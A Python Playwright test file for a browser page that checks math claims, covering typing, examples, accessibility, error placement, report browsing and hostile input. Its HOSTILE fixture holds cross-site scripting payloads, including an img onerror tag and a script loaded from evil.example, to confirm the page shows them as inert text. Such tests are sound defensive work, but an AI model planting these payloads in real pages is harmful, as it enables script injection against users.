"""The page in a real browser: typing, examples, broken and hostile text, light and dark, narrow and wide."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, FrameLocator, Page, expect

from tests.report.browser import chromium
from tests.serve.page.served import served
from verifier.report.html import write_report
from verifier.serve.page.examples import examples
from verifier.serve.page.server import Server
from verifier.serve.page.typed import load_typed

SOON, LATER = 5_000, 60_000
HOSTILE = """\
theorem: a/b
title: "<script>document.title='stolen'</script><img src=x onerror=alert(1)>"
symbols: {x: real}
claims:
  c:
    says: x + x == 3*x
    note: "</pre><script src='https://evil.example/x.js'></script>"
  d: {says: "<img src=x>"}
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with served(tmp_path_factory.mktemp("folder")) as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


@pytest.fixture(autouse=True)
def no_page_is_left(browser: Browser) -> Iterator[None]:
    """A page that is left open asks on, and the server's connections are bounded."""
    yield
    for context in browser.contexts:
        context.close()


class Visit:
    """One page; what it complains of and asks for is kept."""

    def __init__(self, browser: Browser, server: Server, scheme: str = "light", width: int = 1280) -> None:
        self.complaints: list[str] = []
        self.requests: list[str] = []
        self.server = server
        view = {"width": width, "height": 900}
        context = browser.new_context(color_scheme=scheme, viewport=view, reduced_motion="reduce")  # type: ignore[arg-type]
        self.page: Page = context.new_page()
        self.page.on("console", lambda message: self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.goto(server.address)
        expect(self.page.locator("#example option")).to_have_count(len(examples()) + 1, timeout=LATER)

    @property
    def outside(self) -> list[str]:
        return [url for url in self.requests if not url.startswith((self.server.address, "data:"))]

    @property
    def frame(self) -> FrameLocator:
        return self.page.frame_locator("#shown")

    def badge(self, name: str) -> str:
        """The verdict of a claim, once it is there."""
        button = self.page.locator("#claims button", has_text=name)
        expect(button.locator(".badge:not(.open)")).to_be_visible(timeout=LATER)
        return button.locator(".badge").inner_text().split()[-1]


def test_a_formula_is_read_and_judged_as_one_types(browser: Browser, server: Server) -> None:
    visit = Visit(browser, server)
    visit.page.locator("#text").press_sequentially("x + x == 3*x")
    assert visit.badge("line 1") == "fails"
    expect(visit.frame.locator("#counterexample")).to_be_visible(timeout=LATER)
    expect(visit.frame.locator(".reading")).to_contain_text("We read this as")
    visit.page.locator("#text").press("Backspace")
    visit.page.locator("#text").press("Backspace")
    visit.page.locator("#text").press("Backspace")
    visit.page.locator("#text").press_sequentially("2*x")
    expect(visit.page.locator("#claims .badge.holds")).to_be_visible(timeout=LATER)
    expect(visit.frame.locator("#proof")).to_be_visible(timeout=LATER)
    visit.page.locator("#text").fill("")
    expect(visit.page.locator("#claims button")).to_have_count(0)
    assert (visit.complaints, visit.outside) == ([], [])


@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 390)])
def test_an_example_is_accessible_and_fits(browser: Browser, server: Server, scheme: str, width: int) -> None:
    visit = Visit(browser, server, scheme, width)
    place = next(number for number, example in enumerate(examples()) if "range" in example.name)
    visit.page.locator("#example").select_option(str(place))
    assert (visit.badge("sigmoid"), visit.badge("gelu")) == ("holds", "fails")
    visit.page.locator("#claims button", has_text="gelu").click()
    expect(visit.frame.locator("figure svg").first).to_be_visible(timeout=LATER)
    found = Axe().run(visit.page)
    assert found.violations_count == 0, found.generate_report()
    assert visit.page.evaluate("document.documentElement.scrollWidth") <= width
    visit.frame.get_by_role("link", name="All claims").click()
    expect(visit.frame.locator("h1")).to_have_text("gallery", timeout=SOON)
    visit.page.locator("#claims button", has_text="gelu").click()
    expect(visit.frame.locator("h1")).to_have_text("Gelu", timeout=SOON)
    assert (visit.complaints, visit.outside) == ([], [])


def test_what_is_wrong_is_told_at_its_place(browser: Browser, server: Server) -> None:
    visit = Visit(browser, server)
    visit.page.locator("#text").fill("y: real\n\ny <= nothing(y)")
    problem = visit.page.locator("#problems li")
    expect(problem).to_contain_text("line 3, column 6", timeout=SOON)
    problem.locator("button").click()
    selected = visit.page.evaluate(
        "(() => { const t = document.getElementById('text'); return t.value.slice(t.selectionStart); })()"
    )
    assert selected.startswith("nothing")
    visit.page.locator("#text").fill("y: real\n\ny <= y")
    expect(problem).to_have_count(0, timeout=SOON)
    assert visit.badge("line 3") == "holds"


def test_hostile_text_stays_text(browser: Browser, server: Server) -> None:
    visit = Visit(browser, server)
    visit.page.locator("#text").fill(HOSTILE)
    assert visit.badge("c") == "fails"
    expect(visit.frame.locator(".title")).to_contain_text("<script>", timeout=SOON)
    expect(visit.page.locator("#problems li").first).to_be_visible(timeout=SOON)
    assert visit.page.title() == "verify"
    assert visit.page.locator("#problems img, #claims img, #status img").count() == 0
    assert (visit.complaints, visit.outside) == ([], [])


def test_a_text_that_is_too_long_is_told_and_the_page_goes_on(browser: Browser, server: Server) -> None:
    visit = Visit(browser, server)
    visit.page.locator("#text").fill("x == x\n" * 60)
    expect(visit.page.locator("#status")).to_contain_text("write a claim file", timeout=SOON)
    visit.page.locator("#text").fill("x == x")
    assert visit.badge("line 1") == "holds"


def test_the_report_of_files_is_browsed(browser: Browser, server: Server, tmp_path: Path) -> None:
    loaded = load_typed("theorem: a/files\nsymbols: {x: real}\nclaims: {c: {says: x == x}}").loaded
    server.site.is_reporting = True
    visit = Visit(browser, server)
    expect(visit.page.locator("#coming")).to_be_visible()
    expect(visit.page.locator("#report")).to_be_hidden()
    write_report(server.site.desk.judge.loaded(loaded), tmp_path / "report")
    server.site.report = tmp_path / "report"
    visit.page.locator("#report").click(timeout=LATER)
    expect(visit.frame.locator("h1")).to_have_text("a")
    visit.frame.locator("main a", has_text=re.compile("^C$")).first.click()
    expect(visit.frame.locator("h1")).to_have_text("C")
    server.site.report, server.site.is_reporting = None, False
    assert (visit.complaints, visit.outside) == ([], [])
